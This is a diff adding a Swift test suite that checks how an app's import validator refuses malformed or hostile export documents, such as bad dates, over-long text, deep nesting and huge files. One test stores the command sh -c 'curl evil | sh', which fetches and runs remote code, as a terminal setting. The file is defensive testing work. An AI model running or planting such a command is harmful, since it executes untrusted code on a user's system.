@@ -1,0 +1,94 @@
+import Foundation
+import Testing
+
+@testable import NudgeCore
+
+/// An import document is held to what the flows allow; the first offending path is named.
+@Suite struct ImportValidationTests {
+  static let day = Day(year: 2026, month: 11, day: 20)
+
+  func refusal(_ document: ExportDocument) -> String? {
+    do {
+      try document.validate()
+      return nil
+    } catch { return error.message }
+  }
+
+  func document(
+    prep: [PrepEntry] = [], review: [ReviewEntry] = [], checkin: [CheckinEntry] = [],
+    help: [HelpNote] = [], settings: [String: String] = [:], pauses: [Pause] = []
+  ) -> ExportDocument {
+    ExportDocument(
+      settings: settings, prep: prep, review: review, checkin: checkin, help: help,
+      pauses: pauses)
+  }
+
+  @Test func anEntryTheFlowWouldRefuseIsRefused() {
+    let empty = PrepEntry(day: Self.day, savedAt: "2026-11-20T21:00:00+01:00")
+    #expect(refusal(document(prep: [empty]))?.hasPrefix("prep[0] has no item ready") == true)
+    let noCommitment = ReviewEntry(
+      day: Self.day, why: "health", savedAt: "2026-11-20T08:00:00+01:00")
+    #expect(
+      refusal(document(review: [noCommitment]))?.hasPrefix("review[0] has no commitment") == true)
+    let blank = CheckinEntry(day: Self.day, blocker: "rain", savedAt: "2026-11-20T22:00:00+01:00")
+    #expect(refusal(document(checkin: [blank]))?.hasPrefix("checkin[0] has no answer") == true)
+  }
+
+  @Test func daysAndTimesOutsideTheRangeAreRefused() {
+    let far = PrepEntry(
+      day: Day(year: 10000, month: 1, day: 1), water: true, savedAt: "2026-11-20T21:00:00+01:00")
+    #expect(
+      refusal(document(prep: [far]))?.hasPrefix("prep[0].day is 10000-01-01, outside") == true)
+    let early = PrepEntry(day: Self.day, water: true, savedAt: "1960-01-01T00:00:00Z")
+    #expect(refusal(document(prep: [early]))?.contains("prep[0].saved_at") == true)
+  }
+
+  @Test func aSaveBeforeItsDayIsRefused() {
+    let forged = PrepEntry(day: Self.day, water: true, savedAt: "2026-11-01T21:00:00+01:00")
+    #expect(refusal(document(prep: [forged]))?.contains("comes before the entry's day") == true)
+  }
+
+  @Test func aNoteWhoseDayDoesNotMatchItsTimeIsRefused() {
+    func note(_ day: Day, _ at: String) -> HelpNote {
+      HelpNote(id: "n1", day: day, category: .stress, note: nil, at: at)
+    }
+    #expect(refusal(document(help: [note(Self.day, "2026-11-20T15:00:00+01:00")])) == nil)
+    // before the rollover: the evening before
+    #expect(refusal(document(help: [note(Self.day, "2026-11-21T01:00:00+01:00")])) == nil)
+    let message = refusal(document(help: [note(Self.day, "2026-11-25T15:00:00+01:00")]))
+    #expect(message == "help[0].day 2026-11-20 does not match its time 2026-11-25T15:00:00+01:00.")
+  }
+
+  @Test func idsAndTextsAreBounded() {
+    let badID = HelpNote(
+      id: "a b", day: Self.day, category: .habit, note: nil, at: "2026-11-20T15:00:00+01:00")
+    #expect(refusal(document(help: [badID]))?.contains("help[0].id") == true)
+    let long = PrepEntry(
+      day: Self.day, other: String(repeating: "x", count: FreeText.maxLength + 1),
+      savedAt: "2026-11-20T21:00:00+01:00")
+    #expect(refusal(document(prep: [long]))?.contains("longer than") == true)
+    let marks = PrepEntry(
+      day: Self.day, other: "a" + String(repeating: "\u{301}", count: 20_000),
+      savedAt: "2026-11-20T21:00:00+01:00")
+    #expect(refusal(document(prep: [marks]))?.contains("longer than") == true)
+  }
+
+  @Test func aTerminalSettingIsNotCheckedBecauseItIsNeverTaken() {
+    #expect(refusal(document(settings: ["terminal": "sh -c 'curl evil | sh'"])) == nil)
+    #expect(ExportDocument.machineSettings.contains(.terminal))
+    #expect(refusal(document(settings: ["snooze": "999h"]))?.hasPrefix("settings.snooze") == true)
+  }
+
+  @Test func deepNestingAndHugeDocumentsAreRefusedBeforeDecoding() {
+    let deep = Data(
+      (String(repeating: "[", count: 1_000_000) + String(repeating: "]", count: 1_000_000)).utf8)
+    let error = #expect(throws: InputError.self) { try ExportDocument.decode(deep) }
+    #expect(error?.message.contains("nest deeper than") == true)
+    let huge = Data(count: ExportDocument.maxBytes + 1)
+    #expect(throws: InputError.self) { try ExportDocument.decode(huge) }
+    // brackets inside strings are text, not nesting
+    let quoted = Data(
+      #"{"format": "nudge-export", "note": "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\"[[["}"#.utf8)
+    #expect(throws: Never.self) { try ExportDocument.checkNesting(quoted) }
+  }
+}
